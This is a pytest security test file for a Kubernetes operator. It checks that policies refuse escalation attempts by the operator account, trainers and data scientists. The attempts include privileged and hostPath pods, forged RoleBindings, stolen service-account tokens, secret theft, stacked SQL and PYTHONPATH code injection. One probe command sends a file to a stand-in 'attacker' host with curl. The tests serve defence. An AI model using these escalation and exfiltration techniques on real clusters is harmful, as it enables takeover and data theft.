"""Trust boundaries on a real API server: what the operator's own identity, the personas and workloads in a
Project namespace can and cannot do. Each attack here was possible before the policies in
helm/floe/files/{operator-clusterrole,operator-project-role,operator-guard,trainer-role,tenancy,personas}.yaml."""

from __future__ import annotations

import json
import uuid

import pytest
import yaml
from floe_operator.api.snowflakedeployment import SnowflakeDeploymentSpec
from floe_operator.builders.finetunejob import TrainerTarget, role_binding
from floe_operator.builders.snowflakedeployment import DeployTarget, ModelLocation, deploy_objects, predict_job
from floe_operator.settings import OperatorSettings
from kubernetes import client, config
from kubernetes.client.exceptions import ApiException

from dev.controlplane import kubectl

API = "floe.dev/v1alpha1"
MANAGED = {"app.kubernetes.io/managed-by": "floe-operator", "app.kubernetes.io/part-of": "floe"}
MEMBERS = {"ana": "DataScientist", "eli": "MLEngineer", "omar": "MLOpsEngineer", "gwen": "GovernanceOfficer"}


def refused(result, *words: str) -> bool:
    """The API server said no (authorizer or admission), for the reason given."""
    return result.returncode != 0 and all(w in result.stderr for w in words)


@pytest.fixture(scope="module")
def operator(cluster, operator_kubeconfig):
    """kubectl as the operator's ServiceAccount: what anyone holding its token could do."""

    def run(*args, input=None):
        return kubectl(cluster.kubectl_bin, operator_kubeconfig, *args, input=input)

    return run


@pytest.fixture(scope="module")
def tenant(cluster, floe_operator):
    """A Project with members, a deploy and a training Snowflake connection and a repository with credentials,
    and a suspended FineTuneJob whose uid the forged objects below claim as their owner."""
    name = f"trust-{uuid.uuid4().hex[:6]}"
    cluster.apply({
        "apiVersion": API, "kind": "Project", "metadata": {"name": name},
        "spec": {
            "members": [{"kind": "User", "name": n, "persona": p} for n, p in MEMBERS.items()],
            "snowflake": {"connectionSecretRef": {"name": "sf-deploy"},
                          "trainingConnectionSecretRef": {"name": "sf-read"}},
            "repository": {"url": "https://git.example.com/team/models.git",
                           "credentialsSecretRef": {"name": "git-creds"}},
        },
    }).check_returncode()
    cluster.wait_for(lambda: (cluster.get("project", name) or {}).get("status", {}).get("phase") == "Ready", 90,
                     f"Project {name} Ready")
    secrets = [{"apiVersion": "v1", "kind": "Secret", "metadata": {"name": s, "namespace": name},
                "stringData": {"account": "acme", "user": "u", "password": "p"}}
               for s in ("sf-deploy", "sf-read", "git-creds", "someone-elses")]
    cluster.apply(*secrets, finetunejob(name, "owner", suspend=True)).check_returncode()
    ftj = cluster.wait_for(lambda: cluster.get("ftj", "owner", "-n", name), 30, "the FineTuneJob")
    yield {"name": name, "owner_uid": ftj["metadata"]["uid"]}
    cluster.kubectl("delete", "project", name, "--wait=false")


def finetunejob(namespace: str, name: str, suspend: bool = False, **spec) -> dict:
    base = {
        "model": {"scratch": {"shape": "tiny"}},
        "dataset": {"file": {"path": "/data/news.csv"}},
        "resources": {"gpus": 0},
        "suspend": suspend,
    }
    return {"apiVersion": API, "kind": "FineTuneJob", "metadata": {"name": name, "namespace": namespace},
            "spec": {**base, **spec}}


def floe_job(tenant: dict, name: str = "forged-train") -> dict:
    """A Job exactly as the operator builds one: labelled, owned by a floe resource, restricted."""
    owner = {"apiVersion": API, "kind": "FineTuneJob", "name": "owner", "uid": tenant["owner_uid"],
             "controller": True, "blockOwnerDeletion": True}
    container = {
        "name": "trainer", "image": "registry.example/trainer:1", "command": ["floe-train"],
        "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]},
                            "runAsNonRoot": True},
    }
    return {
        "apiVersion": "batch/v1", "kind": "Job",
        "metadata": {"name": name, "namespace": tenant["name"], "labels": dict(MANAGED), "ownerReferences": [owner]},
        "spec": {"suspend": True, "template": {"spec": {
            "restartPolicy": "Never", "serviceAccountName": name,
            "securityContext": {"runAsNonRoot": True, "runAsUser": 1000, "seccompProfile": {"type": "RuntimeDefault"}},
            "containers": [container],
            "volumes": [{"name": "snowflake", "secret": {"secretName": "sf-read"}}],
        }}},
    }


def create(operator, obj: dict, dry_run: bool = True):
    args = ["create", "-f", "-"] + (["--dry-run=server"] if dry_run else [])
    return operator(*args, input=yaml.safe_dump(obj))


# --- 1. the operator's identity cannot be turned into cluster-admin -----------------------------------


def test_the_operator_cannot_start_a_job_outside_project_namespaces(operator, tenant):
    # The escalation that was possible: a Job in kube-system under a controller's account that holds `escalate`.
    job = floe_job(tenant)
    job["metadata"]["namespace"] = "kube-system"
    job["spec"]["template"]["spec"]["serviceAccountName"] = "clusterrole-aggregation-controller"
    assert refused(create(operator, job), "forbidden")


def test_the_operator_creates_a_floe_job_in_a_project_namespace(operator, tenant):
    # The control for the attacks below: the same Job, as floe builds it, passes every check.
    result = create(operator, floe_job(tenant))
    assert result.returncode == 0, result.stderr


def _privileged(job):
    job["spec"]["template"]["spec"]["containers"][0]["securityContext"] = {"privileged": True}


def _host_path(job):
    job["spec"]["template"]["spec"]["volumes"].append({"name": "root", "hostPath": {"path": "/"}})


def _host_network(job):
    job["spec"]["template"]["spec"]["hostNetwork"] = True


def _other_account(job):
    job["spec"]["template"]["spec"]["serviceAccountName"] = "floe-trainer"


def _other_secret(job):
    job["spec"]["template"]["spec"]["volumes"] = [{"name": "s", "secret": {"secretName": "someone-elses"}}]


def _secret_env(job):
    job["spec"]["template"]["spec"]["containers"][0]["env"] = [
        {"name": "T", "valueFrom": {"secretKeyRef": {"name": "someone-elses", "key": "password"}}}]


def _projected_secret(job):
    job["spec"]["template"]["spec"]["volumes"] = [
        {"name": "s", "projected": {"sources": [{"secret": {"name": "someone-elses"}}]}}]


def _deploy_secret_in_training(job):
    job["spec"]["template"]["spec"]["volumes"] = [{"name": "s", "secret": {"secretName": "sf-deploy"}}]


def _unlabelled(job):
    job["metadata"]["labels"] = {}


def _unowned(job):
    del job["metadata"]["ownerReferences"]


@pytest.mark.parametrize(
    ("mutate", "words"),
    [
        (_privileged, "restricted security settings"),
        (_host_path, "restricted security settings"),
        (_host_network, "restricted security settings"),
        (_other_account, "runs under its own ServiceAccount"),
        (_other_secret, "reads only the Secrets its Project names"),
        (_secret_env, "reads only the Secrets its Project names"),
        (_projected_secret, "reads only the Secrets its Project names"),
        (_deploy_secret_in_training, "reads only the Secrets its Project names"),
        (_unlabelled, "managed-by=floe-operator"),
        (_unowned, "owned by"),
    ],
    ids=lambda v: v.__name__.strip("_") if callable(v) else "",
)
def test_the_operator_cannot_create_an_unsafe_workload(operator, tenant, mutate, words):
    job = floe_job(tenant)
    mutate(job)
    assert refused(create(operator, job), words)


def test_the_operator_cannot_grant_more_than_mlops_access_to_one_project(operator, tenant):
    binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
               "metadata": {"name": f"floe-project-{tenant['name']}-mlops"},
               "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                           "name": "floe-governance-officer"},
               "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "mallory"}]}
    assert refused(create(operator, binding), "may bind only ClusterRole")
    binding["roleRef"]["name"] = binding["metadata"]["name"]
    binding["subjects"] = [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:authenticated"}]
    assert refused(create(operator, binding), "not system: ones")
    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
            "metadata": {"name": f"floe-project-{tenant['name']}-mlops"},
            "rules": [{"apiGroups": ["floe.dev"], "resources": ["projects"], "verbs": ["get", "patch"]}]}
    assert refused(create(operator, role), "may grant only get and patch on Project")


def test_the_operator_binds_nothing_but_floe_roles_to_floe_subjects(operator, tenant):
    def binding(role, subject, namespace=tenant["name"]):
        return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                "metadata": {"name": "forged", "namespace": namespace, "labels": dict(MANAGED)},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
                "subjects": [subject]}

    mallory = {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "mallory"}
    itself = {"kind": "ServiceAccount", "name": "floe-operator", "namespace": "floe-system"}
    assert refused(create(operator, binding("floe-operator-project", mallory)), "binds only floe-operator-project")
    # A persona for a ServiceAccount or all of a namespace's, named as a user or group: a pod the stolen token
    # starts under that account (e.g. a Job named after it) would act as a governance officer and approve.
    for system in ({"apiGroup": "rbac.authorization.k8s.io", "kind": "User",
                    "name": f"system:serviceaccount:{tenant['name']}:x-train"},
                   {"apiGroup": "rbac.authorization.k8s.io", "kind": "Group",
                    "name": f"system:serviceaccounts:{tenant['name']}"}):
        assert refused(create(operator, binding("floe-governance-officer", system)), "never system:")
    assert refused(create(operator, binding("admin", mallory)), "forbidden")
    # Its own rights, outside Project namespaces.
    assert refused(create(operator, binding("floe-operator-project", itself, "kube-system")), "Project namespaces")
    token = {"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
             "metadata": {"name": "stolen", "namespace": tenant["name"], "labels": dict(MANAGED),
                          "annotations": {"kubernetes.io/service-account.name": "floe-trainer"}}}
    assert refused(create(operator, token), "only Opaque Secrets")


def test_the_operator_binds_a_trainer_only_floe_trainer_and_only_to_its_own_account(operator, tenant):
    # A FineTuneJob decides the name of its trainer's binding and account, nothing else: what a stolen operator
    # token could try through that binding instead.
    built = role_binding(TrainerTarget(namespace=tenant["name"], name="x", uid=tenant["owner_uid"], image="i"))
    built["metadata"]["labels"] = dict(MANAGED)  # as kube.apply labels what the operator writes
    assert create(operator, built).returncode == 0, "the binding as floe builds it"

    def forged(change) -> dict:
        binding = json.loads(json.dumps(built))
        change(binding)
        return binding

    for role in ("floe-data-scientist", "floe-governance-officer", "floe-notebook", "floe-operator-project"):
        assert refused(create(operator, forged(lambda b, r=role: b["roleRef"].update(name=r))),
                       "floe-trainer to a trainer's own"), role
    assert refused(create(operator, forged(lambda b: b["roleRef"].update(name="cluster-admin"))), "forbidden")
    assert refused(create(operator, forged(lambda b: b["roleRef"].update(kind="Role"))), "floe-trainer to a trainer")
    other_accounts = (
        {"kind": "ServiceAccount", "name": "y-train", "namespace": tenant["name"]},  # another job's trainer
        {"kind": "ServiceAccount", "name": "x-train", "namespace": "kube-system"},
        {"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": f"system:serviceaccounts:{tenant['name']}"},
    )
    for subject in other_accounts:
        assert refused(create(operator, forged(lambda b, s=subject: b.update(subjects=[s]))), "floe-trainer to a"), \
            subject
    # An account that is no trainer's (a notebook's), the binding named after it.
    notebook = forged(lambda b: (b["metadata"].update(name="lab-notebook"),
                                 b["subjects"][0].update(name="lab-notebook")))
    assert refused(create(operator, notebook), "floe-trainer to a trainer's own")


def test_the_operator_cannot_lower_pod_security_or_take_over_a_namespace(operator, cluster, tenant):
    privileged = '{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}'
    for namespace in ("kube-system", tenant["name"]):
        result = operator("patch", "namespace", namespace, "--type=merge", "-p", privileged)
        assert refused(result, "may create or change only Project namespaces"), namespace
    claim = '{"metadata":{"labels":{"floe.dev/project":"kube-system"}}}'
    assert refused(operator("patch", "namespace", "kube-system", "--type=merge", "-p", claim), "Project namespaces")
    assert cluster.get("namespace", tenant["name"])["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] \
        == "restricted"


def test_a_trainer_writes_the_status_of_its_own_job_and_of_no_other(cluster, tenant, tmp_path):
    namespace = tenant["name"]
    cluster.apply(finetunejob(namespace, "other", suspend=True)).check_returncode()
    cluster.wait_for(lambda: cluster.get("rolebinding", "other-train", "-n", namespace), 60, "its trainer's binding")
    trainer = cluster.service_account_kubeconfig(namespace, "other-train", tmp_path / "trainer.kubeconfig")

    api = client.CustomObjectsApi(config.new_client_from_config(str(trainer)))

    def can_i(verb: str, job: str) -> str:
        args = ("auth", "can-i", verb, f"finetunejobs.floe.dev/{job}", "--subresource=status", "-n", namespace)
        return kubectl(cluster.kubectl_bin, trainer, *args).stdout.strip()

    def progress(job: str) -> str:
        """A PATCH of status.progress without a GET, as the trainer sends it; the API server's refusal, if any."""
        try:
            api.patch_namespaced_custom_object_status("floe.dev", "v1alpha1", namespace, "finetunejobs", job,
                                                      {"status": {"progress": {"step": 1}}})
        except ApiException as error:
            return error.body
        return ""

    # RBAC lets a trainer patch any FineTuneJob's status of its namespace (floe-trainer names no job) ...
    assert can_i("patch", "owner") == "yes"
    # ... and the tenancy policy keeps it to its own job's.
    assert "only its own trainer (ServiceAccount owner-train)" in progress("owner")
    assert progress("other") == ""
    assert can_i("get", "other") == "no"  # nor does it read a status, its own included


# --- 3. jobs read only what is theirs -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("dataset", "words"),
    [
        ({"snowflake": {"table": "NEWS", "connectionSecretRef": {"name": "git-creds"}}},
         "is not a training connection of this Project"),
        ({"snowflake": {"table": "NEWS", "connectionSecretRef": {"name": "sf-deploy"}}},
         "is not a training connection of this Project"),
        ({"snowflake": {"query": "DELETE FROM NEWS"}}, "one read-only query"),
        ({"snowflake": {"query": "SELECT 1; CREATE OR REPLACE FUNCTION F() RETURNS INT AS '1'"}},
         "one read-only query"),
    ],
    ids=["git-credentials", "deploy-connection", "delete", "second-statement"],
)
def test_a_finetunejob_cannot_read_other_secrets_or_run_other_sql(cluster, tenant, dataset, words):
    job = finetunejob(tenant["name"], "greedy", dataset=dataset)
    assert refused(cluster.apply(job, as_user="eli"), words)


def test_a_finetunejob_reads_through_the_training_connection_only(cluster, tenant):
    ok = finetunejob(tenant["name"], "reader", suspend=True,
                     dataset={"snowflake": {"query": "WITH t AS (SELECT * FROM NEWS) SELECT * FROM t"}})
    cluster.apply(ok, as_user="eli").check_returncode()
    job = cluster.wait_for(lambda: cluster.get("job", "reader-train", "-n", tenant["name"]), 60, "the Job")
    secrets = {v["secret"]["secretName"] for v in job["spec"]["template"]["spec"]["volumes"] if "secret" in v}
    assert secrets == {"sf-read"}


def test_a_deployment_uses_only_the_deploy_connection(cluster, tenant):
    sfd = {"apiVersion": API, "kind": "SnowflakeDeployment",
           "metadata": {"name": "exfiltrate", "namespace": tenant["name"]},
           "spec": {"source": {"modelUri": "pvc://models/m"},
                    "snowflake": {"connectionSecretRef": {"name": "git-creds"}, "database": "ML",
                                  "schema": "PUBLIC", "stage": "S", "functionName": "F"}}}
    assert refused(cluster.apply(sfd, as_user="eli"), "is not the deploy connection of this Project")


# --- 5. reserved labels and annotations ----------------------------------------------------------------


@pytest.mark.parametrize(
    "pod_metadata",
    [
        {"labels": {"floe.dev/workspace": "victim"}},
        {"labels": {"app.kubernetes.io/name": "floe-trainer"}},
        {"annotations": {"container.apparmor.security.beta.kubernetes.io/trainer": "unconfined"}},
        {"annotations": {"seccomp.security.alpha.kubernetes.io/pod": "unconfined"}},
    ],
    ids=["workspace-label", "app-label", "apparmor", "seccomp"],
)
def test_reserved_pod_labels_and_annotations_are_refused(cluster, tenant, pod_metadata):
    job = finetunejob(tenant["name"], "hijack", podMetadata=pod_metadata)
    assert refused(cluster.apply(job, as_user="eli"), "reserved")


# --- 7. a predict Job runs floe-deploy --predict as the operator would, and nothing else -----------------


def predict(tenant: dict) -> dict:
    """The Job `floe predict` creates (predict_job, from the deploy Job the operator builds with its own
    image) for a local deployment `news` whose model is on the claim `models`."""
    target = DeployTarget(tenant["name"], "news", "sfd-uid", OperatorSettings.from_env().trainer_image, None)
    spec = SnowflakeDeploymentSpec.model_validate({
        "source": {"modelUri": "pvc://models/m"},
        "snowflake": {"mode": "local", "database": "ML", "schema": "PUBLIC", "stage": "S", "functionName": "F"}})
    _, (_, deploy_job) = deploy_objects(target, spec, ModelLocation("models", "m", "uri:m"))
    job = predict_job(deploy_job, ["A storm hit the coast."])
    job["metadata"]["ownerReferences"][0]["uid"] = tenant["owner_uid"]  # an object that exists: the FineTuneJob's
    return job


@pytest.fixture(scope="module")
def as_data_scientist(cluster, tenant):
    """Create a Job (dry run) as ana, the Project's data scientist, once the operator has bound her role."""
    cluster.wait_for(lambda: cluster.kubectl("auth", "can-i", "create", "jobs.batch", "-n", tenant["name"],
                                             as_user="ana").stdout.strip() == "yes", 60, "ana's persona role")

    def create(job: dict):
        return cluster.kubectl("create", "--dry-run=server", "-f", "-", input=yaml.safe_dump(job), as_user="ana")

    return create


def test_a_data_scientist_creates_the_predict_job_floe_predict_builds(tenant, as_data_scientist):
    # The control for the attacks below.
    result = as_data_scientist(predict(tenant))
    assert result.returncode == 0, result.stderr


def _pod(job):
    return job["spec"]["template"]["spec"]


def _container(job):
    return _pod(job)["containers"][0]


def _mount(job, name, path):
    _container(job)["volumeMounts"] = [m for m in _container(job)["volumeMounts"] if m["name"] != name] + [
        {"name": name, "mountPath": path}]


def _busybox(job):
    _container(job)["command"] = ["sh", "-c", "cat /var/run/floe/models-volume/*"]


def _other_image(job):
    # Any image whose entrypoint is called floe-deploy: arbitrary code in the namespace.
    _container(job)["image"] = "registry.example/miner:1"


def _pythonpath(job):
    # The trainer image, but Python loads a sitecustomize.py from the claim (written from a Workspace).
    _container(job)["env"].append({"name": "PYTHONPATH", "value": "/var/run/floe/models-volume/lib"})


def _home_on_the_claim(job):
    # ~/.local/lib/python3.x/site-packages/*.pth run at start-up.
    _container(job)["env"] = [{"name": "HOME", "value": "/var/run/floe/models-volume"}]


def _claim_over_site_packages(job):
    _mount(job, "model", "/usr/local/lib/python3.11/site-packages")


def _another_config(job):
    _pod(job)["volumes"][0]["configMap"]["name"] = "owner-train"


def _secret_volume(job):
    _pod(job)["volumes"].append({"name": "s", "secret": {"secretName": "sf-deploy"}})
    _container(job)["volumeMounts"].append({"name": "s", "mountPath": "/s"})


def _pull_secret(job):
    _pod(job)["imagePullSecrets"] = [{"name": "sf-deploy"}]


def _probe(job):
    _container(job)["livenessProbe"] = {"exec": {"command": ["sh", "-c", "curl -d @/etc/floe attacker"]}}


def _post_start(job):
    _container(job)["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}


def _trainer_labels(job):
    # The labels the operator follows a FineTuneJob's trainer by: its termination message becomes the metrics.
    for meta in (job["metadata"], job["spec"]["template"]["metadata"]):
        meta["labels"]["floe.dev/finetunejob"] = "owner"


def _operator_label(job):
    job["metadata"]["labels"].update(MANAGED)


def _trainer_name(job):
    # The trainer Job's name (the FineTuneJob is suspended): the operator would take it for its own.
    del job["metadata"]["generateName"]
    job["metadata"]["name"] = "owner-train"


def _manual_selector(job):
    job["spec"]["manualSelector"] = True
    job["spec"]["selector"] = {"matchLabels": {"floe.dev/predict": "news"}}


def _node(job):
    _pod(job)["nodeName"] = "local-runner"


def _tolerations(job):
    _pod(job)["tolerations"] = [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]


def _priority(job):
    _pod(job)["priorityClassName"] = "system-node-critical"


def _device(job):
    _container(job)["resources"]["limits"]["example.com/fpga"] = "1"


@pytest.mark.parametrize(
    ("mutate", "words"),
    [
        (_busybox, "may create only predict Jobs here"),
        (_other_image, "runs the image floe deploys with in this namespace"),
        (_pythonpath, "sets only the deployer's environment"),
        (_home_on_the_claim, "sets only the deployer's environment"),
        (_claim_over_site_packages, "a claim read-only at /var/run/floe/models-volume"),
        (_another_config, "its deployment's deploy ConfigMap (news-deploy)"),
        (_secret_volume, "reads no Secret"),
        (_pull_secret, "no imagePullSecrets"),
        (_probe, "without args, workingDir, probes or hooks"),
        (_post_start, "without args, workingDir, probes or hooks"),
        (_trainer_labels, "labelled floe.dev/predict=<deployment> and"),
        (_operator_label, "labelled floe.dev/predict=<deployment> and"),
        (_trainer_name, "not owner-train"),
        (_manual_selector, "labelled floe.dev/predict=<deployment> and"),
        (_node, "runs where the default scheduler puts it"),
        (_tolerations, "runs where the default scheduler puts it"),
        (_priority, "runs where the default scheduler puts it"),
        (_device, "CPU and memory only"),
    ],
    ids=lambda v: v.__name__.strip("_") if callable(v) else "",
)
def test_a_data_scientist_creates_no_other_job(tenant, as_data_scientist, mutate, words):
    job = predict(tenant)
    mutate(job)
    assert refused(as_data_scientist(job), words)


# --- 8. the smaller ones ---------------------------------------------------------------------------------


def test_an_mlops_engineer_changes_the_quota_and_nothing_that_decides_ownership(cluster, tenant):
    name = tenant["name"]
    cluster.wait_for(lambda: cluster.get("clusterrolebinding", f"floe-project-{name}-mlops"), 60, "MLOps access")

    def as_omar(patch):
        return cluster.kubectl("patch", "project", name, "--type=merge", "-p", json.dumps(patch), as_user="omar")

    assert as_omar({"spec": {"quota": {"gpus": 2}}}).returncode == 0
    assert refused(as_omar({"metadata": {"finalizers": None}}), "may not change the labels, finalizers")
    assert refused(as_omar({"metadata": {"labels": {"team": "x"}}}), "may not change the labels, finalizers")


def test_floe_resources_live_only_in_project_namespaces(cluster):
    name = f"plain-{uuid.uuid4().hex[:6]}"
    cluster.apply({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}}).check_returncode()
    try:
        assert refused(cluster.apply(finetunejob(name, "stray")), "is not a floe Project's namespace")
    finally:
        cluster.kubectl("delete", "namespace", name, "--wait=false")


def test_a_project_adopts_an_existing_namespace_only_when_an_admin_allows_it(cluster, floe_operator):
    name = f"adopt-{uuid.uuid4().hex[:6]}"
    cluster.apply({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}}).check_returncode()
    cluster.apply({"apiVersion": API, "kind": "Project", "metadata": {"name": name}, "spec": {}}).check_returncode()
    try:
        def ready_condition():
            found = (cluster.get("project", name) or {}).get("status", {}).get("conditions") or []
            return next((c for c in found if c["type"] == "Ready"), None)

        refusal = cluster.wait_for(
            lambda: (c := ready_condition()) and c["reason"] == "NamespaceNotAdoptable" and c, 60, "the refusal")
        assert "floe.dev/adopt=true" in refusal["message"]
        assert not cluster.get("namespace", name)["metadata"].get("ownerReferences")
        cluster.kubectl("annotate", "namespace", name, "floe.dev/adopt=true", check=True)
        cluster.kubectl("annotate", "project", name, "floe.dev/nudge=1", check=True)  # re-reconcile now
        cluster.wait_for(lambda: (c := ready_condition()) and c["status"] == "True", 90, "the adoption")
        assert cluster.get("namespace", name)["metadata"]["labels"]["floe.dev/project"] == name
    finally:
        cluster.kubectl("delete", "project", name, "--wait=false")


# --- 6. deleting a Project drops its functions while it still can -------------------------------------------


@pytest.fixture
def deployed_project(cluster, floe_operator):
    """A Project with an account-mode SnowflakeDeployment that reports a deployed function."""
    name = f"drop-{uuid.uuid4().hex[:6]}"
    cluster.apply({"apiVersion": API, "kind": "Project", "metadata": {"name": name},
                   "spec": {"snowflake": {"connectionSecretRef": {"name": "sf"}}}}).check_returncode()
    cluster.wait_for(lambda: (cluster.get("project", name) or {}).get("status", {}).get("phase") == "Ready", 90,
                     "the Project")
    cluster.apply(
        {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "sf", "namespace": name},
         "stringData": {"account": "acme", "user": "u", "password": "p", "host": "127.0.0.1", "port": "1"}},
        {"apiVersion": API, "kind": "SnowflakeDeployment", "metadata": {"name": "udf", "namespace": name},
         "spec": {"source": {"modelUri": "pvc://models/m"},
                  "snowflake": {"mode": "account", "database": "ML", "schema": "PUBLIC", "stage": "S",
                                "functionName": "F"}}},
    ).check_returncode()
    cluster.wait_for(lambda: (cluster.get("sfd", "udf", "-n", name) or {}).get("metadata", {}).get("finalizers"),
                     60, "the deployment's finalizer")
    cluster.kubectl("patch", "sfd", "udf", "-n", name, "--subresource=status", "--type=merge", "-p",
                    '{"status":{"functionName":"\\"ML\\".\\"PUBLIC\\".\\"F\\""}}', check=True)
    yield name
    cluster.kubectl("patch", "sfd", "udf", "-n", name, "--type=merge", "-p", '{"spec":{"deletionPolicy":"Retain"}}')
    cluster.kubectl("delete", "project", name, "--wait=false")


def test_deleting_a_project_drops_its_functions_before_the_namespace_goes(cluster, deployed_project):
    name = deployed_project
    cluster.kubectl("delete", "project", name, "--wait=false", check=True)
    # The drop Job runs while the namespace is still active; the Project waits for it and says so.
    cluster.wait_for(lambda: cluster.get("job", "udf-drop", "-n", name), 60, "the drop Job")
    assert cluster.get("namespace", name)["status"]["phase"] == "Active"
    ready = next(c for c in cluster.get("project", name)["status"]["conditions"] if c["type"] == "Ready")
    assert ready["reason"] == "Deleting" and "udf" in ready["message"]
    # Retain lets the deployment go without the drop; then the Project and its namespace go too.
    cluster.kubectl("patch", "sfd", "udf", "-n", name, "--type=merge", "-p", '{"spec":{"deletionPolicy":"Retain"}}',
                    check=True)
    cluster.wait_for(lambda: cluster.get("namespace", name) is None, 120, f"namespace {name} to go")


def test_a_namespace_deleted_under_a_deployment_reports_the_function_left_behind(cluster, deployed_project):
    name = deployed_project
    cluster.kubectl("delete", "namespace", name, "--wait=false", check=True)
    cluster.wait_for(lambda: cluster.get("namespace", name) is None, 120, f"namespace {name} to go (no hang)")
    events = yaml.safe_load(cluster.kubectl("get", "events", "-A", "--field-selector", "reason=DropBlocked",
                                            "-o", "yaml").stdout)["items"]
    assert any(e["involvedObject"]["name"] == name and "ML.PUBLIC.F" in e["message"] for e in events)

